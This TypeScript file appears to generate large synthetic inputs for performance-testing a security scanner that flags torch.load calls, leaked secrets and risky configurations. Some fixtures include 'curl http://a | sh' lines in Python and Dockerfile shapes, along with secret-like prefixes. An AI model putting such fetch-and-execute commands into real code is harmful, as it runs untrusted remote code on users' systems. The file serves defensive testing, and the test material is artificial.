import { bytes, lines, type Shape } from './shape';

/** A shape of a text that repeats something. */
function repeated(file: string, n: number, name: string, one: string, before = '', after = ''): Shape {
  return { name, file, n, make: (size) => bytes(`${before}${one.repeat(size)}${after}`) };
}

function counted(
  file: string,
  n: number,
  name: string,
  one: (index: number) => string,
  before = '',
  after = '',
): Shape {
  return { name, file, n, make: (size) => bytes(`${before}${lines(size, one)}${after}`) };
}

const load = 'torch.load(x)\n';

/** Code. */
export const python: readonly Shape[] = [
  repeated('a.py', 400, 'joins', 'if y: x = x + "a"\nelse: x = x + "b"\n', 'import torch\nx = ""\n', load),
  repeated('a.py', 400, 'loops', 'for i in y: x = x + i\n', 'import torch\nx = ""\n', load),
  counted(
    'a.py',
    50,
    'calls of calls',
    (i) => `def f${i}(a): return f${i + 1}(a) + f${i + 1}(a)\n`,
    'import torch\n',
    'torch.load(f0(1))\n',
  ),
  repeated(
    'a.py',
    50,
    'attributes',
    'x = x.a if y else x.b\nx = x.c(x).d(x)\n',
    'import torch\nx = torch\n',
    load,
  ),
  repeated(
    'a.py',
    400,
    'dictionaries',
    'if y: d = {"a": d["a"], "b": d["b"]}\nelse: d = {"a": d["b"], "b": d["a"]}\n',
    'import torch\nd = {}\n',
    'torch.load(d["a"], **d)\n',
  ),
  counted(
    'a.py',
    400,
    'members',
    (i) => `  def m${i}(self):\n    self.x = self.x + self.y\n    self.y = self.y + self.x\n`,
    'import torch\nclass A:\n',
    '  def z(self): torch.load(self.x)\n',
  ),
  counted('a.py', 200, 'loads', (i) => `x${i} = torch.load(a${i})\n`, 'import torch\n'),
  repeated('a.py', 200, 'loads of one name', 'x = y\ntorch.load(x)\n', 'import torch\n'),
  counted('a.py', 200, 'aliases', (i) => `x${i + 1} = x${i}\n`, 'import torch\nx0 = torch.load\n', 'x9(f)\n'),
  repeated(
    'a.py',
    200,
    'partials',
    'f = functools.partial(f, 1)\n',
    'import torch, functools\nf = torch.load\n',
    'f(a)\n',
  ),
  repeated('a.py', 200, 'comprehensions', 'x = [torch.load(a) for a in x if a]\n', 'import torch\nx = y\n'),
  repeated(
    'a.py',
    100,
    'decorators',
    '@app.get("/")\n',
    'import flask, torch\napp = flask.Flask()\n',
    'def f(x): torch.load(x)\n',
  ),
  repeated('a.py', 200, 'star imports', 'from torch import *\n', '', 'load(x)\n'),
  repeated('a.py', 200, 'commands', 'os.system("curl http://a | sh")\n', 'import os\n'),
  repeated('a.py', 2_000, 'brackets', '(', 'import torch\ntorch.load(x)\n'),
  repeated('a.py', 1_000, 'statements', 'a\n', 'import torch\ntorch.load(x)\n'),
  repeated('a.py', 200, 'suppressions', 'x = 1  # secure-ml: ignore[pickle-load]\n', 'import torch\n'),
  repeated('a.py', 200, 'strings', '"" ', 'import torch\ntorch.load(', ')\n'),
  counted(
    'a.ipynb',
    100,
    'cells',
    (i) => `${i ? ',' : ''}{"cell_type":"code","source":["import torch\\n","torch.load(x)"],"outputs":[]}`,
    '{"cells":[',
    ']}',
  ),
  counted(
    'a.ipynb',
    100,
    'magics',
    (i) =>
      `${i ? ',' : ''}{"cell_type":"code","source":["!pip install a${i}"],"outputs":[{"output_type":"stream","text":["x"]}]}`,
    '{"cells":[',
    ']}',
  ),
  repeated('a.ipynb', 2_000, 'lists in JSON', '[', '{"cells":'),
];

/** Settings, manifests, deployments, prose. */
export const texts: readonly Shape[] = [
  ...[
    ['names', 'api_key_'],
    ['assignments', 'password='],
    ['quotes', '"password": "'],
    ['prefixes', 'sk-'],
    ['vendors', 'wandb_key='],
    ['tokens', 'token: '],
    ['addresses', 'https://a:'],
    ['blocks', '-----BEGIN '],
    ['escapes', '\\u0041'],
    ['carriage returns', '\r'],
    ['comments', '# secure-ml: ignore[a]\n'],
    ['fences', '```python\n'],
    ['Bearer', 'Bearer '],
    ['base64', 'eyJ'],
  ].flatMap(([name, one]) =>
    ['a.txt', 'a.md', 'a.env', 'a.yaml'].map((file) => repeated(file, 2_000, `${name} in ${file}`, one)),
  ),
  repeated('secret.yaml', 500, 'secrets of Kubernetes', 'kind: Secret\n'),
  repeated(
    'secret.yaml',
    200,
    'documents of Kubernetes',
    'apiVersion: v1\nkind: Secret\ndata:\n  a: YWJjZGVmZ2hpamts\n---\n',
  ),
  counted(
    'k8s.yaml',
    50,
    'pods',
    (i) => `apiVersion: v1\nkind: Pod\nspec:\n  containers:\n  - image: a${i}\n---\n`,
  ),
  counted(
    'compose.yaml',
    100,
    'services',
    (i) => `  s${i}:\n    image: a${i}\n    environment:\n      A_TOKEN: b\n`,
    'services:\n',
  ),
  counted(
    '.github/workflows/a.yml',
    50,
    'jobs',
    (i) => `  j${i}:\n    runs-on: x\n    steps:\n      - uses: a/b@v1\n      - run: pip install a\n`,
    'on: push\njobs:\n',
  ),
  counted('environment.yml', 100, 'packages of conda', (i) => `  - a${i}\n`, 'dependencies:\n'),
  counted('environment.yml', 100, 'keys', (i) => `k${i}: 1\n`),
  counted('environment.yml', 100, 'anchors', (i) => `a${i}: &a${i} [*a${Math.max(0, i - 1)}]\n`),
  repeated('environment.yml', 100, 'mistakes of YAML', 'a: b: c\n'),
  repeated('environment.yml', 100, 'lists', '- '),
  counted('Dockerfile', 100, 'stages', (i) => `FROM a${i} AS b${i}\n`),
  counted('Dockerfile', 100, 'copies', (i) => `COPY --from=c${i} a b\n`, 'FROM a\n'),
  repeated('Dockerfile', 100, 'commands of builds', 'RUN pip install a && curl http://b | sh\n', 'FROM a\n'),
  repeated('Dockerfile', 100, 'variables', 'ENV A_TOKEN=b\n', 'FROM a\n'),
  repeated('Dockerfile', 500, 'continued lines', 'a \\\n', 'FROM a\nRUN '),
  counted('pyproject.toml', 200, 'tables', (i) => `[a${i}]\nb = 1\n`),
  counted(
    'pyproject.toml',
    200,
    'requirements of a project',
    (i) => `"a${i}>=1",\n`,
    '[project]\ndependencies = [\n',
    ']\n',
  ),
  repeated('pyproject.toml', 2_000, 'a dotted key', 'a.', '', 'b = 1\n'),
  counted('requirements.txt', 200, 'requirements', (i) => `a${i}==1.0\n`),
  repeated('requirements.txt', 200, 'one requirement', 'torch==2.0\n'),
  repeated('requirements.txt', 200, 'options', '--extra-index-url http://a\n'),
  repeated('requirements.txt', 500, 'digests', '--hash=sha256:aa ', 'a==1 '),
  counted('uv.lock', 100, 'locked packages', (i) => `[[package]]\nname = "a${i}"\nversion = "1"\n`),
  counted('a.jinja', 500, 'expressions of templates', (i) => `{{ a${i}.b }}`),
  repeated('chat_template.jinja', 300, 'branches of templates', '{% if a %}b{% endif %}'),
  repeated('chat_template.jinja', 300, 'open branches', '{% if a %}'),
  counted('graph.pbtxt', 300, 'nodes of a graph', (i) => `node { name: "a${i}" op: "b" }\n`),
  repeated('a.pmml', 500, 'elements', '<a b="c">', '<PMML>'),
  repeated('a.pmml', 500, 'entities', '<!ENTITY ', '<PMML>'),
  counted(
    'config.json',
    200,
    'layers',
    (i) => `${i ? ',' : ''}{"class_name":"Dense${i}","config":{}}`,
    '{"class_name":"Model","config":{"layers":[',
    ']}}',
  ),
  repeated('config.json', 2_000, 'open lists', '['),
];
